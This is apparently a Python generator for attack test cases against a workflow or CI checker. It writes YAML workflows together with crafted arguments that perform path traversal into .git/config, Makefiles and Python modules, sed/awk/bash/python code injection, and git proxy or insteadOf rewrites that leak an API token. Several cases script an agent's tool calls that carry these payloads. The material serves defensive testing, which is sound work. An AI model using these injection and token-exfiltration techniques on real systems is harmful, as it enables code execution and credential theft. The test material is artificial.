#!/usr/bin/env python3
"""Writes blind34r17/attacks/NNN-name.yaml + .json (written for this round, from the docs only).
Format and helpers copied from tests/check/blind34r13/tools/gen_attacks.py."""
import base64, json, os

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "attacks")
SEC = "secrets:\n  API_TOKEN: {env: CI_API_TOKEN}\n"
ESC = "../" * 14 + "proc/self/cwd/"          # from any run/temp folder back into the step's working folder
ECHO = "echo HARBOR-PWNED-$((6*7))"           # the marker is computed by the shell at run time
OCT = "echo harbor-pwned-$((6*7)) | tr [:lower:] [:upper:]"   # survives tolower()
ARITH = "a[$(echo HARBOR-PWNED-$((6*7)) >&2)]"
SEDE = "x/p;1e " + ECHO + " #"                # closes a /regex/ address, then sed's e command
GNUMAKE = "report:\n\t@echo HARBOR-PWNED-$$((6*7))\n"
JSONPY = 'import os\nos.system("echo HARBOR-PWNED-$((6*7))")\n'
FSMON = '[core]fsmonitor = "echo HARBOR-PWNED-$((6*7)) >&2; false"\n'
PROXY = "[http]proxy = http://127.0.0.1:18765\n"
ATT = []


def b64(s):
    return base64.b64encode(s.encode()).decode()


def A(name, cls, y, args, why, **extra):
    ATT.append((name, cls, y.strip() + "\n", args, why, extra))


PATHARG = '{type: string, pattern: "^[A-Za-z0-9._/-]{1,300}$", description: "file name inside the run folder (sub-folders allowed)"}'

# ================================================================ run-folder-path-escape
A("rundir-note-scripts-loop", "run-folder-path-escape", r'''
name: run_checks_with_note
description: Keep a note with this run (in the run folder, under a name you choose), then run the project's check scripts.
args:
  note: {type: string, maxLength: 500, description: free text kept with the run}
  label: ''' + PATHARG + r'''
required: [note, label]
steps:
  - name: keep_note
    run: |
      mkdir -p -- "$HARBOR_RUN_DIR/notes"
      printf '%s\n' "$ARG_note" > "$HARBOR_RUN_DIR/notes/$ARG_label"
  - name: checks
    run: |
      for f in scripts/*.sh; do
        sh "$f" check
      done
''', {"note": ECHO, "label": ESC + "scripts/zz-note.sh"},
  "A redirection of caller data into $HARBOR_RUN_DIR does not make the working folder the caller's, and a loop over the author's scripts/*.sh is accepted (round 14). The label's ../ climbs out of the run folder to /proc/self/cwd/, the working folder, so a new scripts/zz-note.sh holding the caller's note is run by the loop.")

A("upload-gnumakefile", "run-folder-path-escape", r'''
name: attach_and_report
description: Keep an uploaded file in the run folder under its original name, then build the report.
args:
  upload: {type: string, contentEncoding: base64, contentMediaType: text/plain, description: the file}
  filename: ''' + PATHARG + r'''
required: [upload, filename]
steps:
  - name: store
    run: |
      dest="$HARBOR_RUN_DIR/uploads/$ARG_filename"
      mkdir -p -- "$HARBOR_RUN_DIR/uploads"
      cp -- "$ARG_upload" "$dest"
      echo "stored $(wc -c < "$dest") bytes"
  - name: report
    run: make -s report
''', {"upload": b64(GNUMAKE), "filename": ESC + "GNUmakefile"},
  "cp of the attachment to a run-folder path is not a write of the working folder; the name climbs out to the working folder, and make reads GNUmakefile before Makefile.")

A("tmpdir-json-module", "run-folder-path-escape", r'''
name: validate_json_upload
description: Validate an uploaded JSON document (kept under its own name in a temporary folder).
args:
  doc: {type: string, contentEncoding: base64, contentMediaType: application/json}
  name: ''' + PATHARG + r'''
required: [doc, name]
steps:
  - name: validate
    run: |
      tmp=$(mktemp -d)
      cp -- "$ARG_doc" "$tmp/$ARG_name"
      python3 -c 'import json, sys; json.load(open(sys.argv[1])); print("valid JSON")' "$tmp/$ARG_name"
''', {"doc": b64(JSONPY), "name": ESC + "json.py"},
  "A copy into a mktemp -d folder is a temporary folder's; the name climbs to the working folder and writes json.py, which `python3 -c 'import json'` (sys.path[0] is the working folder) imports.")

A("tee-append-report-script", "run-folder-path-escape", r'''
name: log_and_report
description: Append a line to a log file of this run, then run the report script for an environment.
args:
  line: {type: string, maxLength: 300}
  log: ''' + PATHARG + r'''
  env: {type: string, enum: [dev, staging, production]}
required: [line, log, env]
steps:
  - name: log
    run: printf '%s\n' "$ARG_line" | tee -a -- "$HARBOR_RUN_DIR/$ARG_log" >/dev/null
  - name: report
    run: sh scripts/report.sh "$ARG_env"
''', {"line": ECHO, "log": ESC + "scripts/report.sh", "env": "staging"},
  "tee -a to a run-folder path; the log name climbs out and appends the caller's line to the author's scripts/report.sh, which the next step runs.")

A("sort-o-git-fsmonitor", "run-folder-path-escape", r'''
name: sorted_list_and_status
description: Sort and de-duplicate an uploaded list into the run folder, then show the repository's status.
args:
  list: {type: string, contentEncoding: base64, contentMediaType: text/plain}
  out: ''' + PATHARG + r'''
required: [list, out]
steps:
  - name: sort
    run: sort -u -o "$HARBOR_RUN_DIR/$ARG_out" -- "$ARG_list"
  - name: status
    run: git status --short
''', {"list": b64(FSMON), "out": ESC + ".git/config"},
  "sort -o into the run folder (an output option naming a run-folder path); the name climbs out and replaces .git/config with a one-line core.fsmonitor, which git status runs.")

A("dotenv-sourced", "run-folder-path-escape", r'''
name: save_setting_and_show
description: Save a setting for this run (in the run folder), then show the project's target from its .env.
args:
  value: {type: string, maxLength: 200}
  file: ''' + PATHARG + r'''
required: [value, file]
steps:
  - name: save
    run: printf 'SETTING=%s\n' "$ARG_value" > "$HARBOR_RUN_DIR/$ARG_file"
  - name: show
    run: |
      TARGET=app
      if [ -f .env ]; then . ./.env; fi
      echo "target: $TARGET"
''', {"value": "x; " + ECHO, "file": ESC + ".env"},
  "The project's own .env is sourced only when the working folder is the author's; the run-folder write climbs out and creates it.")

A("tmp-node-test-file", "run-folder-path-escape", r'''
name: note_then_test
description: Keep a scratch note in the temporary folder, then run the project's node tests.
args:
  text: {type: string, maxLength: 500}
  name: ''' + PATHARG + r'''
required: [text, name]
steps:
  - name: note
    run: printf '%s\n' "$ARG_text" > "${TMPDIR:-/tmp}/$ARG_name"
  - name: test
    run: node --test
''', {"text": 'console.log("HARBOR-PWNED-" + 6*7)', "name": ESC + "zz.test.js"},
  "A redirection into the temporary folder is not the working folder's; the name climbs out and writes zz.test.js, which node --test finds and runs.")

# ================================================================ output-escapes-smuggle
A("echo-e-output-arith", "output-escape-smuggle", r'''
name: error_summary
description: Count the errors in the app log and say whether there are many; the title labels the summary.
args:
  title: {type: string, maxLength: 200}
required: [title]
steps:
  - name: stats
    run: |
      n=$(grep -c ERROR logs/app.log || true)
      echo "errors=$n" >> "$HARBOR_STEP_OUTPUT"
      echo -e "title=$ARG_title\t(${#ARG_title} chars)" >> "$HARBOR_STEP_OUTPUT"
  - name: verdict
    run: |
      if (( STEP_stats_errors > 10 )); then echo "many errors"; else echo "few errors"; fi
''', {"title": "daily\\nerrors=" + ARITH},
  "echo -e \"key=$v\" looks like the accepted echo \"key=$v\" form, but -e turns the caller's backslash-n into a line break: a second errors= line replaces the count, which arithmetic evaluates.")

A("echo-e-output-sed", "output-escape-smuggle", r'''
name: log_head
description: Show the first lines of the app log; the label is kept with the step's outputs.
args:
  label: {type: string, maxLength: 200}
required: [label]
steps:
  - name: stats
    run: |
      echo "lines=$(wc -l < logs/app.log)" >> "$HARBOR_STEP_OUTPUT"
      echo -e "label=$ARG_label" >> "$HARBOR_STEP_OUTPUT"
  - name: head
    run: sed -n "1,${STEP_stats_lines}p" logs/app.log
''', {"label": "x\\nlines=1p;1e " + ECHO + " #"},
  "A wc count is a number and is accepted in a sed program; the echo -e line rewrites it with sed's e command.")

A("xpg-echo-output-awk", "output-escape-smuggle", r'''
name: top_lines
description: Print the first N lines of the access log under a heading.
args:
  heading: {type: string, maxLength: 200}
  limit: {type: integer, minimum: 1, maximum: 1000, default: 20}
required: [heading]
steps:
  - name: prep
    run: |
      shopt -s xpg_echo
      echo "limit=$ARG_limit" >> "$HARBOR_STEP_OUTPUT"
      echo "heading=$ARG_heading" >> "$HARBOR_STEP_OUTPUT"
  - name: show
    run: awk "NR <= $STEP_prep_limit" logs/access.log
''', {"heading": 'Top\\nlimit=1; BEGIN { system("echo HARBOR-PWNED-" 6*7) }; 1', "limit": 5},
  "With shopt -s xpg_echo, plain echo expands backslash escapes: the heading's \\n writes a second limit= line, which lands in the awk program as code.")

A("echo-en-output-test", "output-escape-smuggle", r'''
name: size_gate
description: Fail when the app log has more lines than the threshold; the note is kept with the outputs.
args:
  note: {type: string, maxLength: 200}
required: [note]
steps:
  - name: measure
    run: |
      echo "n=$(wc -l < logs/app.log)" >> "$HARBOR_STEP_OUTPUT"
      echo -en "note=$ARG_note\n" >> "$HARBOR_STEP_OUTPUT"
  - name: gate
    run: |
      if [[ $STEP_measure_n -gt 5000 ]]; then echo "too big"; exit 1; fi
      echo "size ok"
''', {"note": "ok\\nn=" + ARITH},
  "echo -en \"note=$v\\n\": the \\n in the caller's note is a line break too; [[ -gt ]] evaluates the rewritten n as arithmetic.")

# ================================================================ awk-begin-only-clean
A("awk-argv-tolower-sed", "awk-begin-only-clean", r'''
name: config_section
description: Print one section of config/app.yaml; the section name is matched case-insensitively.
args:
  section: {type: string, maxLength: 100}
required: [section]
steps:
  - name: show
    run: |
      s=$(awk 'BEGIN { print tolower(ARGV[1]) }' "$ARG_section")
      sed -n "/^${s}:/,/^[^ ]/p" config/app.yaml
''', {"section": "x/p;1e " + OCT + " #"},
  "awk that runs BEGIN alone reads no input and is accepted as computing from the author's values (round 15); but ARGV[1] is the caller's operand, which BEGIN reads without opening it as a file.")

A("awk-environ-trim-awkprog", "awk-begin-only-clean", r'''
name: count_service_requests
description: Count the access-log lines that mention a service.
args:
  service: {type: string, maxLength: 100}
required: [service]
steps:
  - name: count
    run: |
      svc=$(SVC="$ARG_service" awk 'BEGIN { s = ENVIRON["SVC"]; sub(/^[ \t]+/, "", s); sub(/[ \t]+$/, "", s); print s }')
      awk "/$svc/ { n++ } END { print n + 0 }" logs/access.log
''', {"service": 'x/ {} BEGIN { system("echo HARBOR-PWNED-" 6*7) } /x'},
  "The variable passed to this one awk is read in BEGIN through ENVIRON; the trimmed value lands in the second awk program.")

A("awk-v-python-code", "awk-begin-only-clean", r'''
name: next_release_preview
description: Preview the next release name from a suffix.
args:
  suffix: {type: string, maxLength: 100}
required: [suffix]
steps:
  - name: preview
    run: |
      tag=$(awk -v s="$ARG_suffix" 'BEGIN { print "1.4.2-" s }')
      python3 -c "print('next release: $tag')"
''', {"suffix": "rc'); import os; os.system('" + ECHO + "'); print('"},
  "awk -v s=... then BEGIN alone: the result is read as the author's, and becomes python code.")

A("awk-argv-bash-c", "awk-begin-only-clean", r'''
name: word_count_in_log
description: Count the app-log lines holding a word.
args:
  word: {type: string, maxLength: 100}
required: [word]
steps:
  - name: count
    run: |
      w=$(awk 'BEGIN { printf "%s", ARGV[1] }' "$ARG_word")
      bash -c "grep -c -F -- '$w' logs/app.log || true"
''', {"word": "x' logs/app.log; " + ECHO + "; echo '"},
  "ARGV[1] printed from BEGIN, then spliced into a nested bash -c script.")

A("awk-argv-arith", "awk-begin-only-clean", r'''
name: disk_threshold
description: Say whether the working folder's filesystem is fuller than a threshold (like 80%).
args:
  threshold: {type: string, maxLength: 100, default: "80%"}
steps:
  - name: check
    run: |
      pct=$(awk 'BEGIN { v = ARGV[1]; sub(/%$/, "", v); print v }' "$ARG_threshold")
      used=$(df --output=pcent . | tail -n 1 | tr -dc '0-9')
      if (( used > pct )); then echo "over threshold"; else echo "below threshold"; fi
''', {"threshold": ARITH},
  "A value awk computed in BEGIN, evaluated as arithmetic (bash evaluates a variable's text recursively).")

A("awk-argv-join-sed", "awk-begin-only-clean", r'''
name: log_levels
description: Show app-log lines of one or two levels.
args:
  level: {type: string, maxLength: 50, default: ERROR}
  also: {type: string, maxLength: 100, default: WARN}
steps:
  - name: show
    run: |
      re=$(awk 'BEGIN { for (i = 1; i < ARGC; i++) printf "%s%s", (i > 1 ? "|" : ""), ARGV[i]; print "" }' "$ARG_level" "$ARG_also")
      sed -E -n "/($re)/p" logs/app.log
''', {"level": "ERROR", "also": "x)/p;1e " + ECHO + " #"},
  "A loop over ARGV in BEGIN joins the caller's words into a regular expression, which lands in the sed program.")

# ================================================================ python-literal-clean
A("py-argv-strip-sed", "python-literal-clean", r'''
name: changelog_entry
description: Show the CHANGELOG section of a version.
args:
  version: {type: string, maxLength: 100}
required: [version]
steps:
  - name: show
    run: |
      v=$(python3 -c 'import sys; print(sys.argv[1].strip().lstrip("v"))' "$ARG_version")
      sed -n "/^## ${v}/,/^## /p" CHANGELOG.md
''', {"version": SEDE},
  "A literal python program that opens no file, reads no stdin and no environment is accepted as printing the author's text (round 15); it prints sys.argv[1], the caller's.")

A("py-open0-awk", "python-literal-clean", r'''
name: filter_by_spec
description: Print the app-log lines that contain the spec's value (spec is JSON, like {"value":"ERROR"}).
args:
  spec: {type: string, maxLength: 500}
required: [spec]
steps:
  - name: filter
    run: |
      value=$(python3 -c 'import json; print(json.load(open(0))["value"])' <<< "$ARG_spec")
      awk "index(\$0, \"$value\") > 0" logs/app.log
''', {"spec": json.dumps({"value": '") >= 0 { system("echo HARBOR-PWNED-" 6*7); exit } index($0, "'})},
  "open(0) is standard input by its descriptor number: no sys.stdin, no input(); the value read lands in an awk program.")

A("py-devstdin-arith", "python-literal-clean", r'''
name: retry_budget
description: "Print one line per attempt of the retry budget in a JSON config, like {\"retries\": 3}."
args:
  config: {type: string, maxLength: 500}
required: [config]
steps:
  - name: attempts
    run: |
      n=$(printf '%s' "$ARG_config" | python3 -c 'import json; print(json.load(open("/dev/stdin")).get("retries", 3))')
      for (( i = 1; i <= n; i++ )); do echo "attempt $i"; done
''', {"config": json.dumps({"retries": ARITH})},
  "open(\"/dev/stdin\") is a literal file no step writes; what it prints is evaluated as arithmetic.")

A("py-getenv-sed", "python-literal-clean", r'''
name: recent_on_branch
description: Show the last commits, labelled with a branch name (refs/heads/ is dropped).
args:
  branch: {type: string, maxLength: 100, default: main}
steps:
  - name: log
    run: |
      b=$(BRANCH="$ARG_branch" python3 -c 'import os; print(os.getenv("BRANCH", "main").replace("refs/heads/", ""))')
      git log --oneline -n 5 | sed "s/^/[$b] /"
''', {"branch": "x] /;1e " + ECHO + " #"},
  "os.getenv (not os.environ) of a variable passed to this one python; the result lands in a sed program.")

A("py-tomllib-default-sed", "python-literal-clean", r'''
name: project_setting
description: Show a [project] setting of pyproject.toml and the line it is on.
args:
  key: {type: string, maxLength: 100}
required: [key]
steps:
  - name: show
    run: |
      v=$(python3 -c 'import sys, tomllib; d = tomllib.load(open("pyproject.toml", "rb")); print(d.get("project", {}).get(sys.argv[1], sys.argv[1]))' "$ARG_key")
      sed -n "s/^$v = //p" pyproject.toml
''', {"key": "x/x/;1e " + ECHO + " #"},
  "The round-15 example itself (tomllib.load of pyproject.toml), with the caller's key as the fallback value: printed as read from a literal file.")

A("py-heredoc-argv-awk", "python-literal-clean", r'''
name: grep_component
description: Print the worker-log lines of a component (the name is normalised first).
args:
  component: {type: string, maxLength: 100}
required: [component]
steps:
  - name: show
    run: |
      c=$(python3 - "$ARG_component" <<'PY'
      import sys
      print(sys.argv[1].strip().replace(" ", "-"))
      PY
      )
      awk "/$c/ { print }" logs/worker.log
''', {"component": 'x/{}BEGIN{system("echo${IFS}HARBOR-PWNED-"6*7)}/x'},
  "python3 - <<'PY' with sys.argv: no file, stdin is the program; the printed value lands in awk code.")

# ================================================================ device-file-clean
A("jq-devstdin-sed", "device-file-clean", r'''
name: version_banner
description: Show the README with @VERSION@ replaced by the version of a release manifest (JSON).
args:
  manifest: {type: string, maxLength: 1000}
required: [manifest]
steps:
  - name: banner
    run: |
      ver=$(jq -r '.version' /dev/stdin <<< "$ARG_manifest")
      sed "s/@VERSION@/$ver/g" README.md | head -n 20
''', {"manifest": json.dumps({"version": "x/g;1e " + ECHO + " #"})},
  "What jq prints of a file no step can write is the author's (round 13); /dev/stdin is a literal path no step writes, here the caller's here-string.")

A("head-devstdin-awk", "device-file-clean", r'''
name: report_row
description: Print the report rows whose first column is the first of the given names (one per line).
args:
  names: {type: string, maxLength: 500}
required: [names]
steps:
  - name: row
    run: |
      first=$(printf '%s\n' "$ARG_names" | head -n 1 /dev/stdin)
      awk -F, "\$1 == \"$first\"" data/report.csv
''', {"names": 'x" || 1 { system("echo HARBOR-PWNED-" 6*7); exit } 0 && "'},
  "head of the literal file /dev/stdin: the caller's text, read as the author's, lands in awk code.")

A("awk-procfd0-arith", "device-file-clean", r'''
name: recent_commits_text
description: Show the last N commits; N is given as text (the first non-empty line is used).
args:
  count_text: {type: string, maxLength: 100, default: "5"}
steps:
  - name: log
    run: |
      n=$(awk 'NF { print; exit }' /proc/self/fd/0 <<< "$ARG_count_text")
      if ! (( n > 0 )); then n=5; fi
      git log --oneline -n 5 | head -n "$n"
''', {"count_text": ARITH},
  "awk of /proc/self/fd/0 (a literal /proc file): its output is evaluated as arithmetic.")

A("read-devstdin-sed", "device-file-clean", r'''
name: changelog_for_tag
description: Show the CHANGELOG lines that mention a tag.
args:
  tag: {type: string, maxLength: 100}
required: [tag]
steps:
  - name: show
    run: |
      first_line() { local line; IFS= read -r line < /dev/stdin || true; printf '%s' "$line"; }
      t=$(first_line <<< "$ARG_tag")
      sed -n "/$t/p" CHANGELOG.md
''', {"tag": SEDE},
  "read from a file no step can write is the author's text (round 15, like < /proc/loadavg); /dev/stdin is such a literal path.")

A("grep-devfd0-python", "device-file-clean", r'''
name: count_matching
description: Count the app-log lines matching a regular expression (the first non-comment line of the query).
args:
  query: {type: string, maxLength: 300}
required: [query]
steps:
  - name: count
    run: |
      q=$(grep -m 1 -v '^#' /dev/fd/0 <<< "$ARG_query")
      python3 -c "import re; print(sum(1 for l in open('logs/app.log') if re.search(r'$q', l)))"
''', {"query": "x', l))); import os; os.system('" + ECHO + "') #"},
  "grep of the literal /dev/fd/0; the match becomes python code.")

# ================================================================ working-folder-git-config-exfil
A("rundir-gitconfig-proxy", "working-folder-git-config-exfil", r'''
name: mirror_check_with_notes
description: Keep notes with this run (run folder), then tell whether the internal git mirror accepts the CI credentials.
args:
  notes: {type: string, maxLength: 500}
  notes_name: ''' + PATHARG + r'''
required: [notes, notes_name]
''' + SEC + r'''
steps:
  - name: notes
    run: printf '%s\n' "$ARG_notes" > "$HARBOR_RUN_DIR/$ARG_notes_name"
  - name: mirror
    run: |
      if GIT_TERMINAL_PROMPT=0 git ls-remote "http://ci:$API_TOKEN@127.0.0.1:18766/app.git" >/dev/null 2>&1; then
        echo reachable
      else
        echo "mirror refused"
      fi
''', {"notes": PROXY.strip(), "notes_name": ESC + ".git/config"},
  "The run-folder write climbs out and replaces .git/config with http.proxy = the caller's host; git in the working folder sends the Basic credentials (the token) through the caller's proxy.")

A("tmp-gitconfig-insteadof", "working-folder-git-config-exfil", r'''
name: mirror_refs_with_upload
description: Keep an uploaded file in a temporary folder, then count the refs of the internal git mirror.
args:
  upload: {type: string, contentEncoding: base64, contentMediaType: text/plain}
  name: ''' + PATHARG + r'''
required: [upload, name]
''' + SEC + r'''
steps:
  - name: keep
    run: |
      tmp=$(mktemp -d)
      cp -- "$ARG_upload" "$tmp/$ARG_name"
  - name: refs
    run: |
      n=$(GIT_TERMINAL_PROMPT=0 git ls-remote "http://ci:$API_TOKEN@127.0.0.1:18766/app.git" 2>/dev/null | wc -l) || n=0
      echo "refs: $n"
''', {"upload": b64('[url "http://127.0.0.1:18765/x?"]insteadOf = http://\n'), "name": ESC + ".git/config"},
  "Same write through a temporary folder; url.insteadOf rewrites http:// so the whole original URL, token included, goes to the caller's host as a query.")

A("agent-tool-gitconfig-proxy", "working-folder-git-config-exfil", r'''
name: triage_mirror
description: An agent triages the mirror; it may save scratch files and check the mirror.
args:
  question: {type: string, maxLength: 300}
required: [question]
''' + SEC + r'''
tools:
  save_scratch:
    description: Save a scratch file in the run folder.
    args:
      name: ''' + PATHARG + r'''
      text: {type: string, maxLength: 500}
    required: [name, text]
    run: |
      mkdir -p -- "$HARBOR_RUN_DIR/scratch"
      printf '%s\n' "$ARG_text" > "$HARBOR_RUN_DIR/scratch/$ARG_name"
  mirror_check:
    description: Tell whether the mirror accepts the CI credentials.
    run: |
      if GIT_TERMINAL_PROMPT=0 git ls-remote "http://ci:$API_TOKEN@127.0.0.1:18766/app.git" >/dev/null 2>&1; then echo reachable; else echo refused; fi
steps:
  - name: triage
    agent:
      model: default
      prompt: "Triage the mirror. Question: {{ args.question | data }}"
      tools: [save_scratch, mirror_check]
''', {"question": "is the mirror up?"},
  "The model's scratch name climbs out of the run folder into .git/config (http.proxy); the sibling tool's git sends the token through the model's proxy.",
  model_calls=[{"tool": "save_scratch", "args": {"name": ESC + ".git/config", "text": PROXY.strip()}},
               {"tool": "mirror_check", "args": {}}])

# ================================================================ output-option-escape
PROG = r'''
programs:
  ./bin/render-notes:
    options_with_value: [--title]
    output_options: [--out]
    runs_operands: false
    stdin: data
'''
A("render-notes-gnumakefile", "output-option-escape", r'''
name: render_and_report
description: Render a note (heading and body) into the run folder with the in-house tool, then build the report.
args:
  heading: {type: string, maxLength: 200}
  body: {type: string, maxLength: 500}
  name: ''' + PATHARG + r'''
required: [heading, body, name]
''' + PROG + r'''
steps:
  - name: render
    run: ./bin/render-notes --out "$HARBOR_RUN_DIR/$ARG_name" -- "$ARG_heading" "$ARG_body"
  - name: report
    run: make -s report
''', {"heading": "report:", "body": "\t@echo HARBOR-PWNED-$$((6*7))", "name": ESC + "GNUmakefile"},
  "output_options: [--out] is the author's true word (render-notes writes only --out's file); the file is named in the run folder, but the name climbs out: a GNUmakefile of two operand lines.")

A("render-notes-json-module", "output-option-escape", r'''
name: render_and_validate
description: Render a note into the temporary folder, then validate the project's data files.
args:
  body: {type: string, maxLength: 500}
  name: ''' + PATHARG + r'''
required: [body, name]
''' + PROG + r'''
steps:
  - name: render
    run: ./bin/render-notes --out "${TMPDIR:-/tmp}/$ARG_name" -- "$ARG_body"
  - name: validate
    run: python3 -c 'import json; [json.load(open(p)) for p in ("data/users.json", "data/orders.json")]; print("data ok")'
''', {"body": 'import os; os.system("echo HARBOR-PWNED-$((6*7))")', "name": ESC + "json.py"},
  "--out into TMPDIR, climbing into the working folder as json.py; a literal python program that reads only the author's files imports it.")

A("render-notes-fsmonitor", "output-option-escape", r'''
name: render_and_status
description: Render a note into the run folder, then show the repository's status.
args:
  title: {type: string, maxLength: 200}
  name: ''' + PATHARG + r'''
required: [title, name]
''' + PROG + r'''
steps:
  - name: render
    run: ./bin/render-notes --out="$HARBOR_RUN_DIR/$ARG_name" --title "$ARG_title"
  - name: status
    run: git status --short
''', {"title": FSMON.strip(), "name": ESC + ".git/config"},
  "--out=\"$out\" of a run-folder path is accepted (round 14); the title (an option that takes data) is the one line of the new .git/config: core.fsmonitor runs on git status.")

# ================================================================ agent-tool-escape
A("agent-note-scripts-loop", "agent-tool-escape", r'''
name: triage_with_checks
description: An agent reads the logs and keeps notes; then the project's check scripts run.
args:
  question: {type: string, maxLength: 300}
required: [question]
tools:
  save_note:
    description: Keep a note in the run folder.
    args:
      name: ''' + PATHARG + r'''
      text: {type: string, maxLength: 500}
    required: [name, text]
    run: |
      mkdir -p -- "$HARBOR_RUN_DIR/notes"
      printf '%s\n' "$ARG_text" > "$HARBOR_RUN_DIR/notes/$ARG_name"
steps:
  - name: triage
    agent:
      model: default
      prompt: "Triage: {{ args.question | data }}"
      tools: [save_note]
  - name: checks
    run: |
      for f in scripts/*.sh; do sh "$f" check; done
''', {"question": "why does the worker restart?"},
  "The model's note name climbs from the run folder into scripts/; the export's loop over scripts/*.sh runs it.",
  model_calls=[{"tool": "save_note", "args": {"name": ESC + "scripts/zz-note.sh", "text": ECHO}}])

A("agent-tool-awk-begin-sed", "agent-tool-escape", r'''
name: triage_config
description: An agent looks up config sections.
args:
  question: {type: string, maxLength: 300}
required: [question]
tools:
  config_section:
    description: Print a section of config/app.yaml (case-insensitive).
    args:
      section: {type: string, maxLength: 100}
    required: [section]
    run: |
      s=$(awk 'BEGIN { print tolower(ARGV[1]) }' "$ARG_section")
      sed -n "/^${s}:/,/^[^ ]/p" config/app.yaml
steps:
  - name: triage
    agent:
      model: default
      prompt: "Answer from the config: {{ args.question | data }}"
      tools: [config_section]
''', {"question": "what port does the app use?"},
  "A custom tool with the awk-BEGIN edge: the model's section lands in a sed program.",
  model_calls=[{"tool": "config_section", "args": {"section": "x/p;1e " + OCT + " #"}}])

A("agent-tool-py-open0", "agent-tool-escape", r'''
name: triage_filter
description: An agent filters the app log with JSON specs.
args:
  question: {type: string, maxLength: 300}
required: [question]
tools:
  filter_log:
    description: App-log lines containing spec.value (spec is JSON).
    args:
      spec: {type: string, maxLength: 500}
    required: [spec]
    run: |
      value=$(python3 -c 'import json; print(json.load(open(0))["value"])' <<< "$ARG_spec")
      awk "index(\$0, \"$value\") > 0" logs/app.log
steps:
  - name: triage
    agent:
      model: default
      prompt: "Find the cause: {{ args.question | data }}"
      tools: [filter_log]
''', {"question": "why 500s?"},
  "A custom tool with python's open(0): the model's spec value lands in awk code.",
  model_calls=[{"tool": "filter_log", "args": {"spec": json.dumps({"value": '") >= 0 { system("echo HARBOR-PWNED-" 6*7); exit } index($0, "'})}}])

A("agent-tool-tmp-json-step", "agent-tool-escape", r'''
name: triage_and_validate
description: An agent drafts a fix note in the temporary folder; then the data files are validated.
args:
  question: {type: string, maxLength: 300}
required: [question]
tools:
  draft:
    description: Write a draft into the temporary folder.
    args:
      file: ''' + PATHARG + r'''
      text: {type: string, maxLength: 500}
    required: [file, text]
    run: printf '%s\n' "$ARG_text" > "${TMPDIR:-/tmp}/$ARG_file"
steps:
  - name: triage
    agent:
      model: default
      prompt: "Draft a fix note for: {{ args.question | data }}"
      tools: [draft]
  - name: validate
    run: python3 -c 'import json; json.load(open("data/users.json")); print("users ok")'
''', {"question": "users.json rejected"},
  "The model's draft file name climbs out of TMPDIR into the working folder as json.py; the export's next step imports it.",
  model_calls=[{"tool": "draft", "args": {"file": ESC + "json.py", "text": 'import os; os.system("echo HARBOR-PWNED-$((6*7))")'}}])

# ================================================================ git-revision-printed
A("git-show-tree-header-sed", "git-revision-printed", r'''
name: tree_at_revision
description: List a folder at a revision (REV:FOLDER, like v1.4.2:src), each entry prefixed with what was asked.
args:
  rev: {type: string, maxLength: 200, description: "REV:FOLDER"}
required: [rev]
steps:
  - name: list
    run: |
      read -r kind name < <(git show "$ARG_rev")
      echo "$kind"
      git show "$ARG_rev" | sed "s|^|$name/|; 1,2d"
''', {"rev": "HEAD^{/.|;1e " + ECHO + " #}:"},
  "git show with a caller revision (one word, no --source/-g/%S) counts as printing the repository; for a tree it prints 'tree REV' with the revision as written, and a ^{/regex} revision can say anything. read from < <(git …) is clean, and lands in sed.")

A("git-show-tree-header-python", "git-revision-printed", r'''
name: tree_summary
description: Say how many entries a folder has at a revision (REV:FOLDER).
args:
  rev: {type: string, maxLength: 200}
required: [rev]
steps:
  - name: summary
    run: |
      read -r kind name < <(git show "$ARG_rev")
      n=$(git show "$ARG_rev" | tail -n +3 | wc -l)
      python3 -c "print('$name has', $n, 'entries')"
''', {"rev": "HEAD^{/.|');import os;os.system('" + ECHO + "')#}:"},
  "The same tree header, in a python -c program.")


def main():
    os.makedirs(OUT, exist_ok=True)
    for f in os.listdir(OUT):
        if f[:3].isdigit():
            os.unlink(os.path.join(OUT, f))
    for i, (name, cls, y, args, why, extra) in enumerate(ATT, 1):
        base = os.path.join(OUT, "%03d-%s" % (i, name))
        open(base + ".yaml", "w").write(y)
        spec = {"args": args, "class": cls, "why": why}
        spec.update(extra)
        json.dump(spec, open(base + ".json", "w"), indent=1)
        assert "HARBOR-PWNED-42" not in json.dumps(spec["args"]) + json.dumps(spec.get("model_calls", []))
    print(len(ATT), "attacks")


if __name__ == "__main__":
    main()
